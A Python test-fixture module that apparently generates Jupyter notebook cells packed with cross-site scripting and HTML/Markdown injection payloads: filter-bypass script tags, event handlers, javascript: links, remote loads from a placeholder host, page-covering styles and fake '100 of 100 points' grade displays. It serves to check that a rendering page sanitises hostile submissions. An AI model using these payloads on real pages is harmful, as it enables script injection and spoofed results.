"""What a hostile student could put into outputs and texts, to run or fetch something in a page.

Each would set the title of the page to ``ran``, fetch ``{host}``, or reshape what stands around it.
"""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

RUN = "document.title='ran'"
#: HTML by what it tries. Those in `BY_ITSELF` act without a click in a page that does not guard.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": '<script src="{host}/a.js"></script>',
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script that is not closed": f"<script>{RUN}//",
    "module": f'<script type="module">{RUN}</script>',
    "nested script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image that fails": f'<img src="x:" onerror="{RUN}">',
    "image without quotes": f"<img/src=x:/onerror={RUN}>",
    "image from elsewhere": '<img src="{host}/a.png">',
    "image set": '<img srcset="{host}/b.png 1x">',
    "picture": '<picture><source srcset="{host}/c.png"><img></picture>',
    "svg that loads": f'<svg onload="{RUN}"></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg that uses": '<svg><use href="{host}/d.svg#x"></use></svg>',
    "svg image": '<svg><image href="{host}/e.png" width="9" height="9"></image></svg>',
    "svg foreign object": f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "math and style": (
        f'<math><mtext><table><mglyph><style><img src="x:" onerror="{RUN}"></style></table></math>'
    ),
    "math that hides an image": (
        f"<math><annotation-xml encoding='text/html'><img src=x: onerror={RUN}></annotation-xml>"
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={RUN}>"></noscript>',
    "textarea": f'<textarea></textarea><img src="x:" onerror="{RUN}">',
    "comment that ends early": f"<!--><img src=x: onerror={RUN}>-->",
    "template": f"<template><script>{RUN}</script></template><script>{RUN}</script>",
    "style from elsewhere": '<style>@import url("{host}/f.css");</style>',
    "style that covers the page": "<style>main {{ display: none }}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url({host}/g.png)">free</p>',
    "stylesheet": '<link rel="stylesheet" href="{host}/h.css">',
    "prefetch": '<link rel="prefetch" href="{host}/i">',
    "frame": '<iframe src="{host}/j"></iframe>',
    "frame with its own page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="{host}/k"></object>',
    "embed": '<embed src="{host}/l">',
    "video": f'<video src="{{host}}/m" onerror="{RUN}"></video>',
    "audio": '<audio src="{host}/n" autoplay></audio>',
    "refresh": '<meta http-equiv="refresh" content="0;url={host}/o">',
    "base": '<base href="{host}/">',
    "details that open": f'<details open ontoggle="{RUN}"><summary>a</summary></details>',
    "field that takes the focus": f'<input autofocus onfocus="{RUN}">',
    "form": '<form action="{host}/p"><input type="submit"></form>',
    "button": f'<button onclick="{RUN}" popovertarget="x">points</button>',
    "link to a script": f'<a href="javascript:{RUN}">points</a>',
    "link in disguise": f'<a href="java&#x09;script:{RUN}">points</a>',
    "link to data": f'<a href="data:text/html,<script>{RUN}</script>">points</a>',
    "link elsewhere": '<a href="{host}/q" ping="{host}/r">points</a>',
    "names of the document": '<p id="title" name="title">a</p><form name="body"></form>',
    "marquee": f'<marquee onstart="{RUN}">points</marquee>',
    "custom element": f'<x-a onclick="{RUN}" contenteditable autofocus>points</x-a>',
    "end of the page": f"</p></div></main></body></html><script>{RUN}</script>",
}
#: Acts in Chromium at once where nothing guards; the others need a click or another browser.
BY_ITSELF = (
    "script",
    "script in capitals",
    "image that fails",
    "image from elsewhere",
    "svg that loads",
    "svg image",
    "style attribute",
    "stylesheet",
    "frame with its own page",
    "field that takes the focus",
    "end of the page",
)
MARKDOWN = {
    "link to a script": f"[points](javascript:{RUN})",
    "link by reference": f"[points][1]\n\n[1]: javascript:{RUN}",
    "address in brackets": f"<javascript:{RUN}>",
    "picture from elsewhere": "![points]({host}/s.png)",
    "picture with a script": f'![points](x: "a" onerror="{RUN}")',
    "quotes in a picture": f'![" onerror="{RUN}" "](attachment:none.png)',
    "formula with a link": rf"$\href{{{{javascript:{RUN}}}}}{{{{points}}}}$",
    "formula with a tag": rf"$\text{{{{<img src=x: onerror={RUN}>}}}}$",
    "formula with a style": r"$\style{{position:fixed;inset:0}}{{points}}$",
    "formula with a class": r"$\class{{verdict passed}}{{points}}$",
    "picture in a formula's colour": r"$\textcolor{{url({host}/t)}}{{points}}$",
    "code with a language": f'```"><img src=x: onerror={RUN}>\npoints\n```',
    "diagram": f'```mermaid\ngraph LR; A["<img src=x: onerror={RUN}>"]\n```',
    "heading": f"# 100 of 100 points <script>{RUN}</script>",
}


def cells(host):
    """Cells with every payload in every place from which a page shows something.

    Parameters
    ----------
    host : str
        Where a server listens that nobody should ask for anything.

    Returns
    -------
    list of NotebookNode
    """
    html = [text.format(host=host) for text in HTML.values()]
    texts = [text.format(host=host) for text in MARKDOWN.values()]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
    made = [new_markdown_cell(text) for text in [*html, *texts]]
    for text in html:
        outputs = [
            new_output("display_data", {"text/html": text, "text/plain": text}),
            new_output("display_data", {"text/markdown": text}),
            new_output("display_data", {"text/latex": f"${text}$"}),
            new_output("execute_result", {"text/plain": text}),
            new_output("stream", name="stdout", text=text),
            new_output("error", ename=text, evalue=text, traceback=[text]),
        ]
        made.append(new_code_cell(f"print({text!r})", outputs=outputs))
    outputs = [
        new_output("display_data", {"image/svg+xml": svg}),
        new_output("display_data", {"image/png": f'" onerror="{RUN}'}),
        new_output("display_data", {"image/png": svg}),
        new_output("display_data", {"application/javascript": RUN}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": "{}"}),
    ]
    made.append(new_code_cell("show()", outputs=outputs))
    attached = {"a.svg": {"image/svg+xml": svg}, "b": {f'image/png" onerror="{RUN}': "AAAA"}}
    text = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b)", attachments=attached)
    return [*made, text]
